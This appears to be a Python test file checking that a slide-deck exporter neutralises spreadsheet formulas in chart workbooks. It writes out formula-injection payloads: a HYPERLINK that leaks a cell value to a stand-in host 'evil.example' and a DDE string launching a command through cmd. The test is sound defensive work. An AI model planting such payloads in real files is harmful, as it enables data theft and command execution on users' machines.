"""The workbooks inside a deck's native charts carry no live formula, whatever the labels say."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import plotly.graph_objects as go

from factorycore.export import deck, report

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "{=1+1}"]


def _embedded_cells(data: bytes) -> list[tuple[str, object]]:
    cells = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("ppt/embeddings/") and name.endswith(".xlsx"):
                book = openpyxl.load_workbook(io.BytesIO(archive.read(name)))  # formulas as written
                for sheet in book.worksheets:
                    for row in sheet.iter_rows():
                        cells += [(c.data_type, c.value) for c in row if c.value is not None]
    return cells


def test_rack_ids_and_series_names_are_neutralised_in_embedded_workbooks():
    bar = go.Figure(
        [go.Bar(x=HOSTILE, y=[1, 2, 3, 4], name="=cmd|' /C calc'!A0"), go.Bar(x=HOSTILE, y=[4, 3, 2, 1], name="ok")]
    )
    scatter = go.Figure([go.Scatter(x=[1, 2, 3], y=[3, 1, 2], mode="markers", name='=HYPERLINK("http://e/","x")')])
    sections = [
        report.ReportSection(
            key="s",
            title="Racks",
            figures=[report.ReportFigure(key="b", fig=bar), report.ReportFigure(key="x", fig=scatter)],
        )
    ]
    cells = _embedded_cells(deck.deck_bytes(sections))
    texts = [v for _, v in cells if isinstance(v, str)]
    assert cells and not [c for c in cells if c[0] == "f"], cells  # no formula cell at all
    assert "'=cmd|' /C calc'!A0" in texts and "'@SUM(1+1)" in texts and "'{=1+1}" in texts
    assert not [t for t in texts if t.startswith(("=", "@", "{="))]
